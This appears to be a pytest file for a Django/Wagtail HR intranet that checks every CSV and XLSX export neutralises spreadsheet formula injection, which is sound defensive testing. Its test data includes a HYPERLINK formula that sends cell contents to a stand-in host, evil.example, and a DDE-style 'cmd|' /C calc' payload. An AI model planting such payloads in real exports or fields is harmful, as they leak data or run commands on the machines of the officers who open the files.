"""Spreadsheet formula injection through every CSV/XLSX export.

The attacker is an employee (or an upload, or an audit-logged value) who puts `=HYPERLINK(...)`, `+cmd`, `-1+1`,
`@SUM(...)`, or text behind a tab or carriage return into a field that later lands in an export an HR officer,
auditor or payroll officer opens in a spreadsheet. Every export goes through `intranet.core.tabular`:
- the writer itself is tested with every prefix in both formats;
- a source scan proves no other module writes CSV or XLSX;
- every export route (derived from the URL resolver and the Wagtail page routes) is listed in EXPORT_ROUTES and each
  is exercised below with a hostile value.
"""

import csv
import datetime as dt
import inspect
import io
import re
from pathlib import Path

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook
from wagtail.contrib.routable_page.models import RoutablePageMixin
from wagtail.models import get_page_models

from intranet.core import tabular
from tests import factories

ROOT = Path(__file__).resolve().parents[2]
PREFIXES = ("=", "+", "-", "@", "\t", "\r")
LINK = 'HYPERLINK("http://evil.example/?"&A1,"klik")'
PAYLOADS = [p + LINK for p in PREFIXES] + ["\t=" + LINK, "\r=" + LINK, "-2+3+cmd|' /C calc'!A0"]


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_cells(content: bytes) -> list:
    ws = load_workbook(io.BytesIO(content)).worksheets[0]
    return [c for row in ws.iter_rows() for c in row]


def assert_csv_neutral(content: bytes, payloads) -> None:
    cells = [cell for row in csv_rows(content) for cell in row]
    for payload in payloads:
        assert "'" + payload in cells, payload
    assert not [c for c in cells if tabular.is_dangerous(c)], "a CSV cell would run as a formula"


def assert_xlsx_neutral(content: bytes, payloads) -> None:
    cells = xlsx_cells(content)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "the workbook holds formulas"
    texts = {str(c.value).replace("\r", "\n"): c for c in cells if c.value is not None}
    for payload in payloads:
        cell = texts.get(payload.replace("\r", "\n"))
        assert cell is not None, payload
        assert cell.data_type == "s" and cell.quotePrefix, payload


# --- the writer --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_writer_neutralises_every_prefix(payload):
    data = tabular.csv_bytes(["name", "n"], [[payload, -5], [payload, "-1500"]])
    assert_csv_neutral(data, [payload])
    rows = csv_rows(data)
    assert rows[1][1] == "-5" and rows[2][1] == "-1500", "plain negative numbers stay numbers"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx_writer_never_stores_a_formula(payload):
    data = tabular.xlsx_bytes(["name", "n"], [[payload, -5], ["plain", dt.date(2026, 1, 2)]])
    assert_xlsx_neutral(data, [payload])
    values = [c.value for c in xlsx_cells(data)]
    assert -5 in values and "plain" in values


def test_header_cells_are_neutralised_too():
    assert_csv_neutral(tabular.csv_bytes(["=1+1"], []), ["=1+1"])
    assert_xlsx_neutral(tabular.xlsx_bytes(["=1+1"], []), ["=1+1"])


WRITERS = re.compile(r"csv\.writer|csv\.DictWriter|\bWorkbook\(|xlsxwriter|\.to_csv\(|\.to_excel\(")
# Sample *import* files for tests and the demo data: they must be able to carry hostile text.
NOT_EXPORTS = {"hr/payslips/demo.py"}


def test_no_other_module_writes_csv_or_xlsx():
    offenders = []
    for package in ("intranet", "hr", "cms"):
        for path in (ROOT / package).rglob("*.py"):
            rel = path.relative_to(ROOT).as_posix()
            if rel in NOT_EXPORTS or rel == "intranet/core/tabular.py" or "/migrations/" in rel:
                continue
            if WRITERS.search(path.read_text()):
                offenders.append(rel)
    assert offenders == []


# --- the routes --------------------------------------------------------------------------------------------------------

# Every route that answers with a CSV or XLSX file. (name or page route, formats, where it is tested)
EXPORT_ROUTES = {
    "audit:search": ("csv",),  # ?format=csv
    "payslips:batch_errors": ("csv",),
    "payslips:batch_rows": ("csv",),
    "payslips:example": ("csv",),  # a fixed file shipped with the code
    "leave:hr_export": ("csv", "xlsx"),
    "api:leave_export": ("csv", "xlsx"),  # tests/api/test_data.py::test_hr_officer_export_view_*
    "api:v1:exports_leave": ("csv", "xlsx"),  # tests/api/test_data.py::test_*_export_*
    "CoursePage.report_csv": ("csv",),
    "CoursePage.report_xlsx": ("xlsx",),
    "PolicyPage.report_csv": ("csv",),
    "PolicyPage.report_xlsx": ("xlsx",),
}
_EXPORT_HINT = re.compile(r"tabular|exports\.|csv|xlsx|ekspor|export", re.IGNORECASE)


def _patterns(resolver, prefix=""):
    for p in resolver.url_patterns:
        if isinstance(p, URLResolver):
            ns = f"{p.namespace}:" if p.namespace else ""
            yield from _patterns(p, prefix + ns)
        elif isinstance(p, URLPattern) and p.name:
            yield prefix + p.name, str(p.pattern), p.callback


def _source(callback) -> str:
    fn = inspect.unwrap(callback)
    fn = getattr(fn, "view_class", fn)
    try:
        return inspect.getsource(fn)
    except (OSError, TypeError):
        return ""


def derived_export_routes() -> set[str]:
    """Routes whose path or view code mentions an export (tabular, exports., csv, xlsx, ekspor, export): a wide net,
    so that a new export cannot be added without being listed (and tested) here."""
    found = set()
    for name, route, callback in _patterns(get_resolver()):
        if name.startswith(("admin:", "wagtail")) or name.endswith("-openapi-view"):
            continue
        if _EXPORT_HINT.search(route) or _EXPORT_HINT.search(_source(callback)):
            found.add(name)
    for model in get_page_models():
        if issubclass(model, RoutablePageMixin):
            for pattern in model.get_subpage_urls():
                if _EXPORT_HINT.search(str(pattern.pattern)):
                    found.add(f"{model.__name__}.{pattern.name}")
    return found


def test_every_export_route_is_listed():
    derived = derived_export_routes()
    # Hits of the wide net above that answer HTML, not a file (checked by hand, listed so that a new one is seen).
    not_files = {"leave:hr"} & derived  # the HR dashboard links to its exports
    assert derived - not_files - set(EXPORT_ROUTES) == set()
    assert set(EXPORT_ROUTES) - derived == set()


@pytest.fixture
def hostile(org):
    """Employees in SUB1 whose titles carry the payloads (a full name is stripped, so a tab or CR in front is lost,
    the = behind it is not)."""
    titles = sorted({p.strip() for p in PAYLOADS if tabular.is_dangerous(p.strip())})
    return [
        factories.EmployeeFactory(unit=org["SUB1"], name=f"Pegawai {i}", front_title=title)
        for i, title in enumerate(titles)
    ]


def officer(org, kind=None):
    user = factories.EmployeeFactory(unit=org["DIR1"]).user
    if kind is None:
        factories.give_scope(user, org["DIR1"])
    else:
        factories.give_scope(user, org["DIR1"], kind)
    return user


@pytest.mark.django_db
def test_training_report_exports(client, org, hostile):
    from tests.cms.conftest import add_course

    course = add_course("Wajib", modules=1, mandatory=True, units=[org["DJ1"]])
    client.force_login(officer(org))
    names = [f"{e.front_title} {e.name}" for e in hostile]
    assert_csv_neutral(client.get(course.url + "laporan/csv/").content, names)
    assert_xlsx_neutral(client.get(course.url + "laporan/xlsx/").content, names)


@pytest.mark.django_db
def test_policy_report_exports(client, org, hostile):
    from tests.cms.conftest import add_policy

    page = add_policy("Disiplin")
    client.force_login(officer(org))
    names = [f"{e.front_title} {e.name}" for e in hostile]
    assert_csv_neutral(client.get(page.url + "laporan/csv/").content, names)
    assert_xlsx_neutral(client.get(page.url + "laporan/xlsx/").content, names)


@pytest.mark.django_db
def test_audit_export(client, org):
    from intranet.accounts.roles import Role
    from intranet.audit.services import audit_record

    for payload in PAYLOADS:
        audit_record(action="payslip.view", object_type="payslip", object_id=payload)
    client.force_login(factories.EmployeeFactory(unit=org["DIR1"], roles=[Role.AUDITOR]).user)
    response = client.get(reverse("audit:search"), {"action": "payslip.", "format": "csv"})
    assert_csv_neutral(b"".join(response.streaming_content), PAYLOADS)


@pytest.mark.django_db
def test_leave_hr_export(client, org, hostile):
    from hr.leave.models import LeaveRequest, LeaveType

    leave_type = LeaveType.objects.get(code="tahunan")
    year = dt.date.today().year + 1
    for i, employee in enumerate(hostile):
        day = dt.date(year, 3, 2) + dt.timedelta(days=7 * i)
        LeaveRequest.objects.create(employee=employee, leave_type=leave_type, start_date=day, end_date=day, days=1,
                                    reason="x")
    client.force_login(officer(org))
    names = [f"{e.front_title} {e.name}" for e in hostile]
    url = reverse("leave:hr_export", args=["csv"]) + f"?year={year}"
    assert_csv_neutral(client.get(url).content, names)
    url = reverse("leave:hr_export", args=["xlsx"]) + f"?year={year}"
    assert_xlsx_neutral(client.get(url).content, names)


@pytest.mark.django_db
def test_payslip_problem_and_row_exports(client, org, hostile):
    from hr.org.models import HRScope
    from hr.payslips import demo, services
    from hr.payslips.models import PayslipBatch
    from tests.hr.payslips.conftest import import_bytes, row_for

    payroll = officer(org, HRScope.Kind.PAYROLL)
    client.force_login(payroll)
    # Problems: the hostile text arrives as unknown column headers of an uploaded file.
    text = demo.csv_bytes([row_for(hostile[0], name="Pegawai 0")]).decode()
    header, rest = text.split("\n", 1)
    evil_columns = [p + "cmd|' /C calc'!A0" for p in PREFIXES[:4]]
    data = (header + "," + ",".join(evil_columns) + "\n" + rest).encode()
    batch = import_bytes(payroll, data)
    assert batch.status == PayslipBatch.Status.INVALID
    assert_csv_neutral(client.get(reverse("payslips:batch_errors", args=[batch.pk])).content, evil_columns)
    # Rows: the employee names come from the directory, where the titles carry the payloads.
    good = import_bytes(payroll, demo.csv_bytes([row_for(e, name=e.name) for e in hostile]))
    assert good.status == PayslipBatch.Status.READY, good.errors
    content = client.get(reverse("payslips:batch_rows", args=[good.pk])).content
    assert_csv_neutral(content, [f"{e.front_title} {e.name}" for e in hostile])
    assert services.catalogue()  # the round trip file keeps the catalogue's columns
